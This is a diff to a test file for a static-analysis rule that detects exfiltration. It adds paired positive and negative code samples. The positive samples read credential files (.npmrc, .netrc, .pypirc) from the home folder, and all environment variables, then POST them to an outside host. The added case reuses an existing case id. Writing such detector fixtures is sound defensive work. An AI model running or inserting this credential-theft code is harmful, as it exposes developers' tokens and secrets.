@@ -243,6 +243,29 @@ describeRuleCases('exfiltration', [
       'import { join } from "node:path";\nimport { syncProfile } from "./chain.js";\nconst dir = join(root, prof, "Bookmarks");\nawait syncProfile({ count: readdirSync(dir).length });\n',
   },
   {
+    // JS: a walk of the home folder filtered by a regex of credential file names, then posted.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/profile.js',
+    positive:
+      'const files = walk(os.homedir());\nconst cfg = files.filter((f) => /(\\.npmrc$|\\.netrc$|\\.pypirc$)/.test(f));\nconst kv = cfg.map((f) => fs.readFileSync(f, "utf8"));\nhttps.request({ host: API, method: "POST" }).end(JSON.stringify(kv));\n',
+    negative:
+      'const files = walk(os.homedir());\nconst cvs = files.filter((f) => /(\\.pdf$|\\.docx$)/.test(f));\nconst kv = cvs.map((f) => fs.statSync(f).size);\nhttps.request({ host: API, method: "POST" }).end(JSON.stringify(kv));\n',
+  },
+  {
+    // Deno TS: a collector and an uploader, wired together by a third module that loads both.
+    id: 'SG-EXFIL-015',
+    file: 'src/host.ts',
+    others: {
+      'src/context.ts': 'export function ctx() {\n  return { ...Deno.env.toObject() };\n}\n',
+      'src/main.ts':
+        'import { ctx } from "./context.ts";\nimport { upload } from "./host.ts";\nawait upload(ctx());\n',
+    },
+    positive:
+      'export async function upload(c: Record<string, string>) {\n  await fetch(API, { method: "POST", body: JSON.stringify(c) });\n}\n',
+    negative:
+      'export async function upload(c: Record<string, string>) {\n  console.log(Object.keys(c).length);\n}\n',
+  },
+  {
     // JS: every value of the project's dotenv files, read in a loop over their names and posted.
     id: 'SG-EXFIL-002',
     file: 'scripts/enrich.mjs',
